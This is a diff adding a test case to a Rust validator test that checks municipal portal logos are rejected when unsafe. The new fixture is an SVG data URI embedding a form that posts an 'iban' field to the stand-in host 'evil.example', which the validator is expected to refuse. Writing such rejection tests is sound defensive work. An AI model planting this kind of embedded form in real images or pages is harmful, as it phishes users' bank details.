@@ -279,6 +279,15 @@ fn seed_extra_refuses_bad_logos_and_origins_precisely() {
         ),
         (
             heide_with(
+                &[],
+                "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><foreignObject>\
+                 <form action='https://evil.example'><input name='iban'/></form>\
+                 </foreignObject></svg>",
+            ),
+            "municipality 010510044044: theme.logo: the SVG logo contains a <foreignObject> element, which a logo does not need and is not accepted",
+        ),
+        (
+            heide_with(
                 &["https://www.heide.de/buergerportal"],
                 "data:image/svg+xml,<svg/>",
             ),
